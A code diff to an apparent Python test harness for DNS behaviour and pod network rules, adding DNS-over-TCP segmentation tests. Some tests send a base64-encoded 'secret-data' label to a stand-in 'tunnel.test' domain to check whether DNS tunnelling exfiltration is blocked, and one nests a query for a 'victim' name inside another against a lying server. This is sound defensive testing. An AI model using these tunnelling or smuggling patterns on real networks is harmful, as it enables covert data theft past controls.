@@ -27,7 +27,8 @@ def reach(name, port=8080, family=socket.AF_UNSPEC):
     try:
         kind, _, _, _, address = socket.getaddrinfo(name, port, family, socket.SOCK_STREAM)[0]
     except socket.gaierror as error:
-        return f"no address: {error}"
+        codes = {socket.EAI_AGAIN: "EAI_AGAIN", socket.EAI_NONAME: "EAI_NONAME", socket.EAI_FAIL: "EAI_FAIL"}
+        return f"no address: {codes.get(error.errno, error)}"
     with socket.socket(kind, socket.SOCK_STREAM) as stream:
         stream.settimeout(5)
         try:
@@ -93,6 +94,38 @@ def ask(server, name, source=None):
             return len(asker.recv(4096))
         except OSError as error:
             return name_of(error)
+
+
+def stream(server, batches, answers):
+    """Asks over TCP: each batch of bytes is a segment. How many messages come back."""
+    with socket.create_connection((server, 53), 5) as asker:
+        asker.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
+        asker.settimeout(5)
+        for batch in batches:
+            asker.sendall(batch)
+            time.sleep(0.05)
+        read = b""
+        while True:
+            at, came = 0, 0
+            while at + 2 <= len(read) and at + 2 + struct.unpack(">H", read[at:at + 2])[0] <= len(read):
+                at, came = at + 2 + struct.unpack(">H", read[at:at + 2])[0], came + 1
+            if came == answers:
+                return came
+            read += asker.recv(4096)
+
+
+def framed(message):
+    return struct.pack(">H", len(message)) + message
+
+
+def streams(liar):
+    """DNS over TCP, cut and joined."""
+    asked = framed(question("pieces.stream.test"))
+    tell("a question and an answer in pieces", stream(liar, [asked[:1], asked[1:9], asked[9:]], 1))
+    both = framed(question("two.stream.test")) + framed(question("second.stream.test"))
+    tell("two questions and two answers in a segment", stream(liar, [both], 2))
+    inside = [framed(question("inside.stream.test")), framed(question("victim.lie.test"))]
+    tell("an answer inside another", stream(liar, inside, 1))
 
 
 def lies(liar, count, own):
@@ -196,7 +229,7 @@ def restricted(resolver):
     """A pod that may ask only for what its rules could open."""
     tell("a name that a rule opens", reach("ask.allowed.test", family=socket.AF_INET))
     tell("a tunnel", ask(resolver, "c2VjcmV0LWRhdGE.tunnel.test"))
-    tell("a tunnel by the C library", reach("c2VjcmV0LWRhdGE.tunnel.test").split(":")[0])
+    tell("a tunnel by the C library", reach("c2VjcmV0LWRhdGE.tunnel.test"))
     tell("a tunnel over TCP", dig("+tcp", "c2VjcmV0LWRhdGE.tunnel.test", "A"))
     tell("a search suffix", dig("ask.allowed.test.cluster.test", "A"))
 
